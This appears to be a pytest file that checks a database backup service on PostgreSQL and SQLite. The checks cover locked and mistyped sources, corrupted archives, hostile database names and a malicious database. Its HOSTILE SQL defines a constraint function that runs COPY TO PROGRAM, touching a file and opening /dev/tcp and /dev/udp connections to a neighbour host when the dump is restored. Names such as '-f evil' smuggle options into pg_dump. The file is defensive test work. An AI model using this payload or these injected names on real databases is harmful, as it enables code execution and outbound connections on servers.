"""On the server with PostgreSQL and SQLite: what its programs let pass, and what the installed command makes of it."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from ansible_collections.diskominfo.backup.tests.installed import (
    SERVICE,
    altered,
    count_calls,
    find_new,
    order,
    read_newest,
    sh,
)

NAMES = ("-f evil", "dbname=x host=127.0.0.1 port=9", "x/../../etc")
SQLITE = Path("/srv/antrean/data/antrean.db")
MISTYPED = SQLITE.with_name("antraen.db")
HOLDER = """import sqlite3, time
held = sqlite3.connect("/srv/antrean/data/antrean.db", isolation_level=None)
held.execute("PRAGMA locking_mode=EXCLUSIVE")
held.execute("BEGIN EXCLUSIVE")
open("/run/held", "w").close()
time.sleep(600)"""
HOSTILE = """CREATE ROLE penjahat; CREATE DATABASE jahat OWNER penjahat;
\\connect jahat
GRANT CREATE ON SCHEMA public TO penjahat; SET ROLE penjahat;
CREATE FUNCTION bait(a text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN
 EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch {outside}/perintah;
 bash -c "echo x >/dev/udp/{neighbour}/9; : >/dev/tcp/{neighbour}/9" || true''';
 RETURN true; EXCEPTION WHEN insufficient_privilege THEN RETURN true; END $$;
CREATE TABLE t (a text CHECK (bait(a))); INSERT INTO t VALUES ('x');
"""


def ask(sql: str, database: str = "postgres") -> str:
    """What PostgreSQL answers its administrator."""
    return sh('exec psql -XAtq -v ON_ERROR_STOP=1 -d "$1"', database, given=sql, user="postgres")


@pytest.fixture(scope="module", autouse=True)
def night(outside: Path, neighbour: str) -> None:
    """The service ran once, as it does by its timer, over everything that this file makes first."""
    for name in NAMES:
        ask(f'CREATE DATABASE "{name}"')
    ask(HOSTILE.format(outside=outside, neighbour=neighbour))
    holder = subprocess.Popen(["python3", "-c", HOLDER])
    sh("for n in $(seq 600); do test -e /run/held && break; sleep 0.1; done; test -e /run/held")
    try:
        # What the tool of the house says of the same: nothing is wrong.
        assert "entri" not in sh('sqlite3 "$1" .dump', str(SQLITE))
        sh(f"systemctl start {SERVICE} || true")
    finally:
        holder.kill()
        holder.wait()


def test_a_locked_database_and_a_mistyped_one_fail() -> None:
    locked, mistyped = read_newest("terkunci", "run"), read_newest("salah", "run")
    assert locked["failure"]["slug"] in ("source_locked", "time_limit")
    assert mistyped["failure"]["slug"] == "source_missing"
    assert str(MISTYPED) in mistyped["failure"]["message"]
    assert not MISTYPED.exists()

    sh('cd /tmp; sqlite3 "$1" ".backup salinan.db"; rm salinan.db', str(MISTYPED))
    assert MISTYPED.exists(), "the tool of the house makes an empty source, and a backup of nothing"
    MISTYPED.unlink()


def cut_to_seventy_percent(archive: bytes) -> bytes:
    return archive[: len(archive) * 7 // 10]


def flip_a_byte(archive: bytes) -> bytes:
    at = len(archive) * 7 // 10
    return archive[:at] + bytes([archive[at] ^ 1]) + archive[at + 1 :]


@pytest.mark.parametrize("change", [cut_to_seventy_percent, flip_a_byte], ids=lambda it: it.__name__)
def test_a_spoilt_archive_is_listed_without_a_word_and_is_found(change: Callable[[bytes], bytes]) -> None:
    assert read_newest("perizinan", "check")["status"] == "succeeded"
    with altered("perizinan", ".dump", change) as raw:
        assert "TABLE DATA public izin" in sh('exec pg_restore -l "$1"', str(raw))
        answer = order("check", "perizinan", "--runs", "latest")

    assert answer.status == 1
    assert [part["level"] for part in answer.receipt["parts"]] == ["damaged"]
    assert order("check", "perizinan", "--runs", "latest").status == 0, (
        "but for the change, the same steps find nothing"
    )


def test_code_in_a_constraint_leaves_nothing_outside_and_sends_no_packet(outside: Path) -> None:
    calls = count_calls()

    assert order("check", "jahat", "--runs", "latest").receipt["parts"][0]["level"] == "compared"
    assert os.listdir(outside) == []
    assert count_calls() == calls

    # The same dump in the hands of the ordinary client and administrator bites.
    ask("CREATE DATABASE contoh")
    with altered("jahat", ".dump", bytes) as raw, raw.open("rb") as dump:
        subprocess.run(["runuser", "-u", "postgres", "--", "pg_restore", "-d", "contoh"], stdin=dump, check=True)
    assert os.listdir(outside) == ["perintah"]
    assert {name: count - calls[name] for name, count in count_calls().items()} == dict.fromkeys(calls, 1)
    ask("DROP DATABASE contoh")


def test_names_of_databases_are_only_names() -> None:
    assert [part["level"] for part in read_newest("nama", "check")["parts"]] == ["compared"] * len(NAMES)
    calls = count_calls()
    assert order("run", "nama").status == 0
    assert count_calls() == calls
    assert find_new("x", "*evil*") == ""

    # The same names as the client takes them: one is a file, the other a host that it calls.
    folder = sh("mktemp -d", user="postgres")
    sh('cd "$1"; pg_dump "$2"; ! pg_dump "$3" 2>/dev/null', folder, *NAMES[:2], user="postgres")
    assert os.listdir(folder) == [" evil"]
    assert count_calls()["Tcp:ActiveOpens"] == calls["Tcp:ActiveOpens"] + 1
